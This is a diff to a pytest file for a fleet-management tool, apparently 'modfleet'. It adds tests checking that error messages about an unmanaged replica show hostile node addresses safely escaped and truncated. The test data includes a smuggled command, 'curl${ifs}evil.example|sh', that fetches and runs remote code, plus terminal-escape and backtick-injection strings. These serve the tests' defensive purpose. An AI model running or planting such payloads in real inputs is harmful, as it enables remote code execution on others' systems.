@@ -101,6 +101,17 @@ def test_a_plan_quotes_no_command_that_it_has_written():
     with pytest.raises(UnmanagedReplicaError) as refused:
         start(nodes=("liar",), careful=ALL)
     assert "`modfleet nodes ignore-replica ADDRESS --reason REASON`" in str(refused.value)
+    assert "liar ('x;curl${ifs}evil.example|sh;echo :1')" in str(refused.value)
+
+
+def test_a_plan_shows_the_beginning_of_what_is_no_address():
+    upload()
+    join("liar")
+    say(beat("liar", master_of("Run this:\x1b[2J`id`\u202e" + "x" * 200 + ":1")))
+    with pytest.raises(UnmanagedReplicaError) as refused:
+        start(nodes=("liar",), careful=ALL)
+    assert str(refused.value).isprintable()
+    assert len(str(refused.value)) < 400
 
 
 def test_another_reason_to_wait_at_each_heartbeat():
